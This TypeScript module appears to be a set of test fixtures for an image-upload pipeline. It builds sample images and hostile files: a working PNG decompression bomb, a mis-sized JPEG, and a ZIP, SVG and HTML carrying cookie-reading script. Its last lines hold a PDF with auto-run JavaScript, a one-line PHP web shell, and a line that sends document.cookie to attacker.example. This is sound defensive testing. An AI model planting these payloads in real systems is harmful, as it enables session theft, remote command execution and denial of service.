import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** Small test images and hand-built hostile files; nothing here is read from disk. */

type Colour = { r: number; g: number; b: number; alpha?: number };

/** A flat-coloured image in the given format. */
export function solid(width: number, height: number, colour: Colour = { r: 200, g: 60, b: 90 }) {
  const channels: 3 | 4 = colour.alpha === undefined ? 3 : 4;
  return sharp({ create: { width, height, channels, background: colour } });
}

/** A photo-like image (noise compresses like a photo, not like a flat colour). */
export function noisy(width: number, height: number) {
  return sharp({
    create: { width, height, channels: 3, background: "#808080", noise: { type: "gaussian", mean: 128, sigma: 40 } },
  });
}

export const jpeg = (width = 64, height = 48) => solid(width, height).jpeg().toBuffer();
export const png = (width = 64, height = 48) => solid(width, height).png().toBuffer();

/** Left half red, right half blue: which way round it was stored shows after rotation. */
export async function halves(width: number, height: number) {
  const half = Math.floor(width / 2);
  return sharp({ create: { width, height, channels: 3, background: { r: 0, g: 0, b: 255 } } }).composite([
    {
      input: { create: { width: half, height, channels: 3, background: { r: 255, g: 0, b: 0 } } },
      left: 0,
      top: 0,
    },
  ]);
}

/** One PNG chunk: length, type, data, CRC. */
export function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG's chunks, in order. */
export function pngChunks(file: Buffer) {
  const chunks: { type: string; data: Buffer }[] = [];
  for (let at = 8; at < file.length; ) {
    const length = file.readUInt32BE(at);
    chunks.push({ type: file.toString("latin1", at + 4, at + 8), data: file.subarray(at + 8, at + 8 + length) });
    at += 12 + length;
  }
  return chunks;
}

function ihdr(width: number, height: number, bitDepth: number, colourType: number) {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.writeUInt8(bitDepth, 8);
  data.writeUInt8(colourType, 9);
  return pngChunk("IHDR", data);
}

/**
 * A complete, valid decompression bomb: a 1-bit grey PNG of `size`×`size` black pixels. At 30000 it
 * unpacks to 900 megapixels (2.7 GB as RGB) from about 110 KB.
 */
export function pngBomb(size = 30_000) {
  const rowBytes = 1 + Math.ceil(size / 8);
  const pixels = deflateSync(Buffer.alloc(rowBytes * size), { level: 9 });
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(size, size, 1, 0),
    pngChunk("IDAT", pixels),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A PNG with a text chunk (tEXt) after its header. */
export function withPngText(file: Buffer, keyword: string, text: string) {
  const chunks = pngChunks(file);
  const body = chunks.map((c, i) =>
    i === 0
      ? Buffer.concat([pngChunk(c.type, c.data), pngChunk("tEXt", Buffer.from(`${keyword}\0${text}`, "latin1"))])
      : pngChunk(c.type, c.data),
  );
  return Buffer.concat([PNG_SIGNATURE, ...body]);
}

function fctl(sequence: number, width: number, height: number) {
  const data = Buffer.alloc(26);
  data.writeUInt32BE(sequence, 0);
  data.writeUInt32BE(width, 4);
  data.writeUInt32BE(height, 8);
  // x and y offsets 0; delay 1/10 s; dispose and blend 0.
  data.writeUInt16BE(1, 20);
  data.writeUInt16BE(10, 22);
  return pngChunk("fcTL", data);
}

/** An animated PNG of two frames: red (the default image), then green. */
export async function animatedPng(width = 32, height = 32) {
  const first = pngChunks(await solid(width, height, { r: 255, g: 0, b: 0 }).png().toBuffer());
  const second = pngChunks(await solid(width, height, { r: 0, g: 255, b: 0 }).png().toBuffer());
  const idat = (chunks: typeof first) => Buffer.concat(chunks.filter((c) => c.type === "IDAT").map((c) => c.data));
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0);
  const sequence = Buffer.alloc(4);
  sequence.writeUInt32BE(2);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk("IHDR", first[0]!.data),
    pngChunk("acTL", actl),
    fctl(0, width, height),
    pngChunk("IDAT", idat(first)),
    fctl(1, width, height),
    pngChunk("fdAT", Buffer.concat([sequence, idat(second)])),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A JPEG whose frame header (SOF0) declares another size than its data holds. */
export function withDeclaredJpegSize(file: Buffer, width: number, height: number) {
  const copy = Buffer.from(file);
  for (let at = 2; at < copy.length - 9; ) {
    if (copy[at] !== 0xff) throw new Error("not a JPEG marker");
    const marker = copy[at + 1]!;
    const length = copy.readUInt16BE(at + 2);
    if (marker === 0xc0 || marker === 0xc2) {
      copy.writeUInt16BE(height, at + 5);
      copy.writeUInt16BE(width, at + 7);
      return copy;
    }
    at += 2 + length;
  }
  throw new Error("no SOF marker");
}

/** A 2×2, 24-bit Windows bitmap. */
export function bmp() {
  const pixels = Buffer.alloc(16, 0x80); // two rows of 2 pixels (6 bytes) padded to 8
  const header = Buffer.alloc(54);
  header.write("BM", 0, "latin1");
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** A valid ZIP holding one stored (uncompressed) file. */
export function zip(name = "payload.html", content = "<script>alert(document.cookie)</script>") {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

export const PDF =
  "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n";
export const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
export const HTML =
  "<!doctype html><html><body><script>fetch('/api/auth/me').then(r=>r.text()).then(alert)</script></body></html>";
export const PHP = "<?php system($_GET['cmd']); ?>";
export const JS = "fetch('https://attacker.example/steal?c='+document.cookie)";
